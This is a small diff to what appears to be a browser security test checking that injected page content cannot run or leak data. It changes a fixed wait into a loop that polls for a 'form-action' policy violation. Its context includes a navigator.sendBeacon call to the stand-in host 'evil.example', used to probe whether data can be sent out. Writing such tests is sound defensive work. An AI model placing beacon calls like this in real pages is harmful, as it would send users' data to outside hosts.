@@ -159,7 +159,8 @@ def test_what_is_put_into_the_page_does_not_run(rich: Made, person: Person) -> N
         try { await act(); } catch { failed.push(name); }
       }
       navigator.sendBeacon("https://evil.example/");
-      await new Promise((done) => setTimeout(done, 100));
+      for (let waited = 0; waited < 50 && !violations.includes("form-action"); waited++)  // of a form it comes later
+        await new Promise((done) => setTimeout(done, 100));
       return { owned: window.owned ?? null, violations: [...new Set(violations)].sort(), failed,
         hidden: getComputedStyle(document.body).display === "none" };
     }""")
